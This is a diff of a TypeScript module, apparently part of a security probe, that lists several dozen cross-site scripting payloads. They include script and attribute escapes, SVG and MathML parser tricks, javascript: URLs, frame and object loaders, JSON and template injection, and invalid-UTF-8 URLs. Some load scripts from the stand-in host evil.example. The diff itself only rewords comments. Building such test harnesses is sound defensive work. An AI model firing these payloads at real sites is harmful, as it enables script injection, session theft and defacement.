@@ -1,22 +1,22 @@
-/** One attempt to have something run in somebody else's page. All call `pwned`, which the probe hears. */
+/** An XSS attempt. All payloads call `pwned`, which the probe records. */
 export interface Payload {
   id: number;
   text: string;
-  /** Whether it runs when a page without a policy takes it as HTML, without anybody's touch. */
+  /** Whether it runs without interaction when inserted as HTML into a page without a policy. */
   runsAsHtml: boolean;
 }
 
 type Attempt = string | { runs: string };
 
-/** Elements bear this mark, so that one that got into a page is found even where it cannot run. */
+/** Attribute on every payload's elements, so that injected ones are found even where they cannot run. */
 export const MARK = 'data-pwned';
 export const EVIL_HOST = 'evil.example';
 
 const call = (id: number) => `pwned(${id})`;
 
-/** Each gets its own number, so that a report tells which one ran. */
+/** Each has a number, so that a report tells which one ran. */
 const ATTEMPTS: ((id: number) => Attempt)[] = [
-  // Script elements, and ways out of whatever they stand in.
+  // Script elements, and escapes from their context.
   (id) => `<script ${MARK}>${call(id)}</script>`,
   (id) => `<ScRiPt ${MARK} src=//${EVIL_HOST}/${id}.js></sCrIpT>`,
   (id) => `"><script ${MARK}>${call(id)}</script>`,
@@ -24,7 +24,7 @@ const ATTEMPTS: ((id: number) => Attempt)[] = [
   (id) => `</title><script ${MARK}>${call(id)}</script>`,
   (id) => ({ runs: `</textarea><img ${MARK} src=x onerror=${call(id)}>` }),
   (id) => ({ runs: `--><img ${MARK} src=x onerror=${call(id)}><!--` }),
-  // Attributes, and ways out of them.
+  // Attributes, and escapes from them.
   (id) => ({ runs: `<img ${MARK} src=x onerror=${call(id)}>` }),
   (id) => ({ runs: `'><img ${MARK} src=x onerror='${call(id)}'>` }),
   (id) => ({ runs: `\`><img ${MARK} src=x onerror=${call(id)}>` }),
@@ -34,7 +34,7 @@ const ATTEMPTS: ((id: number) => Attempt)[] = [
   (id) => `" onmouseover=${call(id)} autofocus onfocus=${call(id)} ${MARK} x="`,
   (id) => `' style='animation:x' onanimationstart='${call(id)}' ${MARK} '`,
   (id) => ({ runs: `<input ${MARK} autofocus onfocus=${call(id)}>` }),
-  // SVG and MathML, and what parses differently in them.
+  // SVG and MathML, and their parsing differences.
   (id) => ({ runs: `<svg ${MARK}><svg onload=${call(id)}></svg></svg>` }),
   (id) => ({ runs: `<svg ${MARK}><animate onbegin=${call(id)} attributeName=x dur=1s></svg>` }),
   (id) => ({ runs: `<svg ${MARK}><foreignObject><img src=x onerror=${call(id)}></foreignObject></svg>` }),
@@ -44,17 +44,17 @@ const ATTEMPTS: ((id: number) => Attempt)[] = [
   (id) =>
     `<math ${MARK}><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call(id)}&gt;">`,
   (id) => ({ runs: `<svg></p><style><a id="</style><img ${MARK} src=x onerror=${call(id)}>">` }),
-  // Parsed one way with scripts and another way without.
+  // Parsed differently with and without scripting.
   (id) => ({ runs: `<noscript ${MARK}><p title="</noscript><img src=x onerror=${call(id)}>">` }),
   (id) => `<template ${MARK}><img src=x onerror=${call(id)}></template>`,
-  // Addresses.
+  // URLs.
   (id) => `javascript:${call(id)}`,
   (id) => `<a ${MARK} href="javascript:${call(id)}">x</a>`,
   (id) => `<a ${MARK} href="jav&#x09;ascri&NewLine;pt&colon;${call(id)}">x</a>`,
   (id) => `<a ${MARK} href="\t java\nscript:${call(id)}">x</a>`,
   (id) => `<a ${MARK} href="data:text/html,<script>opener.pwned(${id})</script>" target=_blank>x</a>`,
   (id) => `<a ${MARK} href="vbscript:${call(id)}">x</a><a ${MARK} href="//${EVIL_HOST}/${id}">x</a>`,
-  // What loads, frames, posts or leads elsewhere.
+  // Elements that load, frame, post or redirect.
   (id) => ({ runs: `<iframe ${MARK} srcdoc="<img src=x onerror=parent.${call(id)}>"></iframe>` }),
   (id) => ({ runs: `<iframe ${MARK} src="javascript:parent.${call(id)}"></iframe>` }),
   (id) => `<object ${MARK} data="javascript:${call(id)}"></object><embed ${MARK} src="//${EVIL_HOST}/${id}">`,
@@ -64,12 +64,12 @@ const ATTEMPTS: ((id: number) => Attempt)[] = [
     `<form ${MARK} action="javascript:${call(id)}"><button formaction="javascript:${call(id)}">x</button>`,
   (id) => `<style ${MARK}>@import "//${EVIL_HOST}/${id}.css";*{background:url(//${EVIL_HOST}/${id})}</style>`,
   (id) => `<p ${MARK} style="width:expression(${call(id)});background:url(javascript:${call(id)})">x</p>`,
-  // JSON in the page, and scripts that strings stand in.
+  // JSON embedded in the page, and strings inside of scripts.
   (id) => `"}]}</script><!--<script ${MARK}>${call(id)}</script>`,
   (id) => `<!--<script ${MARK}>${call(id)}//`,
   (id) => `"\u2028;${call(id)};\u2029//`,
   (id) => `\\";${call(id)};//'-${call(id)}-'`,
-  // What templates of one kind or another would fill in.
+  // Syntax of various template engines.
   (id) => `{{constructor.constructor('${call(id)}')()}} \${${call(id)}} #{${call(id)}} <%= ${call(id)} %>`,
   (id) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${call(id)}"}}`,
   (id) => `[x](javascript:${call(id)}) ![x](x"onerror="${call(id)}) <javascript:${call(id)}>`,
@@ -90,7 +90,7 @@ export const PAYLOADS: readonly Payload[] = ATTEMPTS.map((attempt, index) => {
     : { id, text: made.runs, runsAsHtml: true };
 });
 
-/** Bytes that no text is made of, as addresses may hold them: overlong `<script>`, lone continuations, halves of pairs. */
+/** URLs with invalid UTF-8: overlong `<script>`, lone continuation bytes, half surrogate pairs. */
 export const BAD_ADDRESSES = [
   '/%c0%bcscript%c0%be',
   '/products?search=%e0%80%bcimg%20src=x%20onerror=pwned(900)%e0%80%be',
